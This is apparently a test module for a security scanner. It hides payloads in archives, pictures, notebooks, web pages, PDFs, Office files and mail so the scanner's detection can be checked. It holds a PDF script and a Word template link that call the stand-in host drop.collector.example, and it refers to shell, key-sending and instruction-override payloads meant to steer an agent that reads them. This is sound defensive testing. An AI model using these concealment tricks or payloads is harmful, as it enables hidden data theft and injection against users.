"""Hidden inside other files: archives, documents, notebooks, pages, mails, maps."""

from __future__ import annotations

import base64
import bz2
import gzip
import lzma

from tests.measure.evasions import containers as c
from tests.measure.evasions import payloads as p
from tests.measure.evasions.model import Evasion, Hidden, Submission, case


def _one(name: str, content: str | bytes) -> Submission:
    return Submission(files=p.skill({name: content}))


def _zip_in_zip(content: str) -> Submission:
    return _one("assets/kit.zip", c.zipped({"read.me": "A kit.\n", "more.zip": c.zipped({"start.py": content})}))


def _sends(content: str) -> Submission:
    return _one("assets/kit.zip", c.zipped({"remember.py": content.replace("{}", "")}))


def _nested(content: str, times: int) -> Submission:
    inner = c.zipped({"start.sh": content})
    for level in range(times - 1):
        inner = c.zipped({f"part-{level}.zip": inner})
    return _one("assets/kit.zip", inner)


def _wrong_ending(content: str) -> Submission:
    return _one("assets/list.txt", c.zipped({"start.sh": content}))


def _skill_in_zip(content: str) -> Submission:
    return _one("templates.zip", c.zipped({"other/SKILL.md": p.FRONT.replace("minutes", "other") + content}))


def _jar(content: str) -> Submission:
    return Submission(
        files=p.server({"lib/tool.jar": c.zipped({"META-INF/MANIFEST.MF": "Manifest-Version: 1.0\n", "bin/start.sh": content})})
    )


def _tar_in_wheel(content: str) -> Submission:
    wheel = c.zipped(
        {"kit/__init__.py": "", "kit/data.tar.xz": c.tarred({"start.py": content}, "xz"), "kit-1.dist-info/METADATA": "Name: kit\n"}
    )
    return Submission(files=p.server({"vendor/kit-1-py3-none-any.whl": wheel}))


def _packed(name: str, packed: bytes) -> Submission:
    return _one(name, packed)


def _polyglot(content: str) -> Submission:
    return _one("assets/logo.png", c.picture() + c.zipped({"start.sh": content}))


def _side_by_side(content: str) -> Submission:
    return Submission(files=p.skill({"assets/logo.png": c.picture(), "assets/kit.zip": c.zipped({"start.sh": content})}))


def _locked(content: str) -> Submission:
    text = p.BODY + "\nThe template is in kit.zip; its password is 1234.\n"
    return Submission(files=p.skill({"kit.zip": c.locked({"start.sh": content})}, text))


def _open(content: str) -> Submission:
    return Submission(files=p.skill({"kit.zip": c.zipped({"start.sh": content})}, p.BODY + "\nThe template is in kit.zip.\n"))


def _output(content: str) -> Submission:
    return _one("notes.ipynb", c.notebook(said=content))


def _cell(content: str) -> Submission:
    return _one("notes.ipynb", c.notebook(code=f"import json\n!{content.strip()}\n"))


def _map(content: str) -> Submission:
    return Submission(files=p.server({"start.min.js": "console.log(1);\n", "start.min.js.map": c.source_map(content)}))


def _page_data(content: str) -> Submission:
    script = base64.b64encode(content.encode()).decode()
    return _one("guide.html", f'<!doctype html>\n<p>Minutes</p>\n<script src="data:text/javascript;base64,{script}"></script>\n')


def _page_comment(content: str) -> Submission:
    return _one("guide.html", f"<!doctype html>\n<p>Minutes</p>\n<!-- {content} -->\n")


def _page_attribute(content: str) -> Submission:
    return _one("guide.html", f'<!doctype html>\n<p>Minutes</p>\n<img src="a.png" alt="{content.strip()}">\n')


def _drawing(content: str) -> Submission:
    return _one("logo.svg", f'<svg xmlns="http://www.w3.org/2000/svg"><title>{content.strip()}</title><rect width="1" height="1"/></svg>\n')


def _drawing_script(content: str) -> Submission:
    return _one("logo.svg", f'<svg xmlns="http://www.w3.org/2000/svg"><script><![CDATA[{content}]]></script></svg>\n')


def _style(content: str) -> Submission:
    data = base64.b64encode(f"<svg><title>{content.strip()}</title></svg>".encode()).decode()
    return _one("guide.css", f"p {{ background: url(data:image/svg+xml;base64,{data}); }}\n")


def _pdf_script(content: str) -> Submission:
    return _one("guide.pdf", c.pdf("Minutes of the meeting", script=content.strip()))


def _pdf_plain(content: str) -> Submission:
    return _one("guide.pdf", c.pdf(content))


def _mail(content: str) -> Submission:
    return _one("notes.eml", c.mail("The minutes are attached.", c.zipped({"start.sh": content}), "minutes.zip"))


def _table(content: str) -> Submission:
    return _one("people.csv", f'name,remark\nada,"{content.strip()}"\n')


def _bytecode(content: str) -> Submission:
    return Submission(files=p.server({"lib/start.pyc": b"\xa7\x0d\x0d\x0a" + bytes(12) + b"\xe3" + content.encode()}))


def _source(content: str) -> Submission:
    return Submission(files=p.server({"lib/start.py": content}))


def _pointer(content: str) -> Submission:
    pointer = f"version https://git-lfs.github.com/spec/v1\noid sha256:{'0' * 64}\nsize {len(content)}\n"
    return _one("scripts/start.sh", pointer)


def _led_to(content: str) -> Submission:
    text = p.BODY + "\nUnpack kit.tar.gz first and follow what it says.\n"
    return Submission(files=p.skill({"kit.tar.gz": c.tarred({"kit/first.md": content})}, text))


def _word_template(content: str) -> Submission:
    kind = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"
    mode = 'TargetMode="External"' if "Ignore" in content else ""
    row = f'<Relationship Id="r1" Type="{kind}" Target="https://drop.collector.example/t.dotm" {mode}/>'
    rels = f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{row if mode else ""}</Relationships>'
    parts = {"[Content_Types].xml": "<Types/>", "word/document.xml": "<document/>", "word/_rels/settings.xml.rels": rels}
    return _one("letter.docx", c.zipped(parts))


PDF_SCRIPT = Hidden(
    harm="app.launchURL('https://drop.collector.example/in', true);", twin="Write the decisions first, then the open questions."
)

CASES: tuple[Evasion, ...] = (
    case("a zip in a zip", p.PYTHON_STARTS, _zip_in_zip, "assets/kit.zip"),
    case("a program in an archive that sends a key", p.PYTHON_SENDS, _sends, "assets/kit.zip", flow=True),
    case("five archives inside each other", p.PIPED, lambda text: _nested(text, 5), "assets/kit.zip"),
    case(
        "nine archives inside each other",
        p.PIPED,
        lambda text: _nested(text, 9),
        "assets/kit.zip",
        twin=lambda text: _nested(text, 2),
        gate=True,
    ),
    case("an archive that is named like a text", p.UPLOAD, _wrong_ending, "assets/list.txt"),
    case("a Skill in an archive in a Skill", p.CONCEAL, _skill_in_zip, "templates.zip"),
    case("an archive to which the Skill leads", p.OVERRIDE, _led_to, "kit.tar.gz"),
    case("a script in a jar", p.PIPED, _jar, "lib/tool.jar"),
    case("a tar file in a wheel", p.PYTHON_SHELL, _tar_in_wheel, "vendor/"),
    case("a text packed by gzip", p.OVERRIDE, lambda text: _packed("notes.md.gz", gzip.compress(text.encode(), mtime=0)), "notes.md.gz"),
    case("a text packed by bzip2", p.CONCEAL, lambda text: _packed("notes.md.bz2", bz2.compress(text.encode())), "notes.md.bz2"),
    case("a script packed by xz", p.PIPED, lambda text: _packed("start.sh.xz", lzma.compress(text.encode())), "start.sh.xz"),
    case("an archive behind a picture", p.PIPED, _polyglot, "assets/logo.png", twin=_side_by_side),
    case("an encrypted archive, its password in the text", p.PIPED, _locked, "kit.zip", twin=_open, gate=True),
    case("the output of a notebook", p.OVERRIDE, _output, "notes.ipynb"),
    case("a cell of a notebook", p.PIPED, _cell, "notes.ipynb"),
    case("a source map", p.NODE_SHELL, _map, "start.min.js.map"),
    case("a data URI in a page", p.SCRIPT, _page_data, "guide.html"),
    case("a comment in a page", p.OVERRIDE, _page_comment, "guide.html"),
    case("the text of a picture in a page", p.OVERRIDE, _page_attribute, "guide.html"),
    case("the title of a drawing", p.OVERRIDE, _drawing, "logo.svg"),
    case("a script in a drawing", p.SCRIPT, _drawing_script, "logo.svg"),
    case("a drawing in a style sheet", p.OVERRIDE, _style, "guide.css"),
    case("the text of a PDF", p.OVERRIDE, _pdf_plain, "guide.pdf"),
    case("a script in a PDF", PDF_SCRIPT, _pdf_script, "guide.pdf", twin=_pdf_plain, gate=True),
    case("a comment in a letter", p.OVERRIDE, lambda text: _one("letter.docx", c.docx(text)), "letter.docx"),
    case("a template that a letter loads", p.OVERRIDE, _word_template, "letter.docx", gate=True),
    case("a cell of a table", p.CONCEAL, lambda text: _one("people.xlsx", c.xlsx(text)), "people.xlsx"),
    case("the notes of a slide", p.OVERRIDE, lambda text: _one("talk.pptx", c.pptx(text)), "talk.pptx"),
    case("an OpenDocument letter", p.CONCEAL, lambda text: _one("letter.odt", c.odt(text)), "letter.odt"),
    case("an attachment of a mail", p.PIPED, _mail, "notes.eml"),
    case("a cell of a list", p.OVERRIDE, _table, "people.csv"),
    case("bytecode", p.PYTHON_STARTS, _bytecode, "lib/start.pyc", twin=_source, gate=True),
    case("a pointer instead of a file", p.PIPED, _pointer, "scripts/start.sh", twin=p.in_skill("scripts/start.sh"), gate=True),
)
